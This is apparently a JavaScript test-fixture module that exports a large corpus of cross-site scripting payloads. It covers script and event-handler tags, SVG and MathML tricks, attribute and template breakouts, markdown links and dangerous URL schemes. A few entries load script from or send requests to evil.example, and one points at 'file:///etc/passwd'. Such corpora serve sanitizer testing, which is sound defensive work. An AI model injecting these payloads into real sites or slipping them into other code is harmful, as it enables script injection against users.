/** Strings that try to run as code, in the ways in which text has been taken for code elsewhere. */

const CALL = "alert(1)";
const ELEMENTS = [
  `<script>${CALL}</script>`, `<script src=//evil.example/x.js></script>`, `<script type=module>${CALL}</script>`, `<ScRiPt>${CALL}</sCrIpT>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`, `<script\n>${CALL}</script\n>`, `<script/x>${CALL}</script>`, `<svg><script>${CALL}</script></svg>`,
  `<svg><script xlink:href="data:,${CALL}"/></svg>`, `<img src=x onerror=${CALL}>`, `<img src=x onerror="${CALL}">`, `<img src=x onerror='${CALL}'>`,
  `<img/src=x/onerror=${CALL}>`, `<img src=x:x onerror=${CALL}//`, `<IMG SRC=x ONERROR=${CALL}>`, `<img srcset=x onerror=${CALL}>`, `<image src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`, `<svg/onload=${CALL}>`, `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`, `<svg><set onbegin=${CALL} attributename=x>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${CALL}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${CALL}></foreignObject></svg>`, `<svg><style><img src=x onerror=${CALL}></style></svg>`, `<svg><desc><img src=x onerror=${CALL}></desc></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}></style></mglyph></table></mtext></math>`, `<math href="javascript:${CALL}">x</math>`, `<math><maction actiontype="statusline#" xlink:href="javascript:${CALL}">x</maction></math>`,
  `<body onload=${CALL}>`, `<body onpageshow=${CALL}>`, `<html onmouseover=${CALL}>`, `<iframe src="javascript:${CALL}"></iframe>`, `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe onload=${CALL}></iframe>`, `<object data="javascript:${CALL}"></object>`, `<object data="data:text/html,<script>${CALL}</script>"></object>`, `<embed src="javascript:${CALL}">`,
  `<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`, `<a href="javascript:${CALL}">x</a>`, `<a href="jAvAsCrIpT:${CALL}">x</a>`, `<a href="java&#9;script:${CALL}">x</a>`,
  `<a href="java&#x0A;script:${CALL}">x</a>`, `<a href="&#106;avascript:${CALL}">x</a>`, `<a href="\u0001javascript:${CALL}">x</a>`, `<a href="data:text/html,<script>${CALL}</script>">x</a>`,
  `<a href="vbscript:${CALL}">x</a>`, `<form action="javascript:${CALL}"><button>x</button></form>`, `<form><button formaction="javascript:${CALL}">x</button></form>`, `<isindex type=image src=1 onerror=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`, `<input type=image src=x onerror=${CALL}>`, `<textarea autofocus onfocus=${CALL}></textarea>`, `<select autofocus onfocus=${CALL}></select>`, `<keygen autofocus onfocus=${CALL}>`,
  `<button autofocus onfocus=${CALL}>x</button>`, `<div tabindex=0 autofocus onfocus=${CALL}></div>`, `<video><source onerror=${CALL}></video>`, `<video src=x onerror=${CALL}></video>`, `<audio src=x onerror=${CALL}></audio>`,
  `<video poster="javascript:${CALL}"></video>`, `<details open ontoggle=${CALL}>x</details>`, `<marquee onstart=${CALL}>x</marquee>`, `<dialog open onclose=${CALL}>x</dialog>`, `<link rel=stylesheet href="javascript:${CALL}">`,
  `<link rel=import href="data:text/html,<script>${CALL}</script>">`, `<link rel=preload as=script href=x onerror=${CALL}>`, `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`, `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${CALL}</script>">`, `<base href="javascript:/">`,
  `<style>@import "javascript:${CALL}";</style>`, `<style>*{background:url("javascript:${CALL}")}</style>`, `<style onload=${CALL}></style>`, `<div style="background:url(javascript:${CALL})">x</div>`, `<div style="width:expression(${CALL})">x</div>`,
  `<div style="animation:x" onanimationstart=${CALL}>x</div>`, `<xss onfocus=${CALL} autofocus tabindex=1>`, `<x contenteditable onblur=${CALL}>x`, `<x onclick=${CALL}>x`, `<template><script>${CALL}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=${CALL}></template>`, `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`, `<title><img src=x onerror=${CALL}></title>`, `<textarea><img src=x onerror=${CALL}></textarea>`,
  `<xmp><img src=x onerror=${CALL}></xmp>`, `<plaintext><img src=x onerror=${CALL}>`, `<!--><img src=x onerror=${CALL}>-->`, `<!--<img src="--><img src=x onerror=${CALL}//">`, `<![CDATA[><img src=x onerror=${CALL}>]]>`, `<?xml version="1.0"?><img src=x onerror=${CALL}>`,
  `<object><param name=src value="javascript:${CALL}"></object>`, `<table background="javascript:${CALL}">`, `<frameset onload=${CALL}>`, `<bgsound src="javascript:${CALL}">`, `<layer src="javascript:${CALL}">`, `<portal src="javascript:${CALL}" onload=${CALL}>`,
  `<input popovertarget=x onbeforetoggle=${CALL}><div id=x popover onbeforetoggle=${CALL}>`, `<script>import("data:text/javascript,${CALL}")</script>`, `<msc-chat server="https://evil.example" open></msc-chat>`, `<img src="https://evil.example/pixel">`,
];
const BREAKOUTS = [
  `"><img src=x onerror=${CALL}>`, `'><img src=x onerror=${CALL}>`, `" onmouseover="${CALL}`, `' onfocus='${CALL}' autofocus='`, "`><img src=x onerror=alert(1)>", `</script><script>${CALL}</script>`, `</textarea><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`, `</style><script>${CALL}</script>`, `</p></div><script>${CALL}</script>`, "${alert(1)}", "#{alert(1)}", "{{constructor.constructor('alert(1)')()}}", "{{7*7}}", "<%= alert(1) %>", "{%alert(1)%}", "[[${alert(1)}]]", "@alert(1)",
  `";${CALL};//`, `';${CALL};//`, `\\";${CALL};//`, `*/${CALL}/*`, `<?lit$1$?>`, `<!--?lit$1$-->`, `{{lit-1}}`, `__proto__`, `constructor`, `\u202e<script>${CALL}</script>`, `\u0000<script>${CALL}</script>`, `\ufeff<script>${CALL}</script>`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`, `&#60;img src=x onerror=${CALL}&#62;`, `%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E`, `\\u003cimg src=x onerror=${CALL}\\u003e`, `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, `＜script＞${CALL}＜/script＞`,
];
const MARKDOWN = [
  `[x](javascript:${CALL})`, `[x](JaVaScRiPt:${CALL})`, `![x](x"onerror="${CALL})`, `[x]: javascript:${CALL}`, `<javascript:${CALL}>`, `[x](data:text/html,<script>${CALL}</script>)`, `[x](vbscript:${CALL})`, `![x](javascript:${CALL})`, "```html\n<script>alert(1)</script>\n```",
  `**<img src=x onerror=${CALL}>**`, `[<img src=x onerror=${CALL}>](https://a.org)`, `[x](https://a.org "onmouseover=${CALL}")`,
];
export const ADDRESSES = [
  `javascript:${CALL}`, `JAVASCRIPT:${CALL}`, `javascript://a.org/%0a${CALL}`, ` javascript:${CALL}`, `\tjavascript:${CALL}`, `java\tscript:${CALL}`, `java\nscript:${CALL}`, `\u0001javascript:${CALL}`, `javascript&colon;${CALL}`, `data:text/html,<script>${CALL}</script>`,
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", `data:image/svg+xml,<svg onload=${CALL}>`, `vbscript:${CALL}`, `blob:https://a.org/x`, "file:///etc/passwd", `filesystem:https://a.org/x`, `view-source:javascript:${CALL}`, `feed:javascript:${CALL}`,
  `jar:javascript:${CALL}`, "about:blank", `https:javascript:${CALL}`, `intent://x#Intent;scheme=javascript;end`, `ws://evil.example`, `mailto:x@y.z?body=<script>`, `\\javascript:${CALL}`, `//evil.example`,
];

export const STRINGS = [...new Set([...ELEMENTS, ...BREAKOUTS, ...MARKDOWN, ...ADDRESSES])];
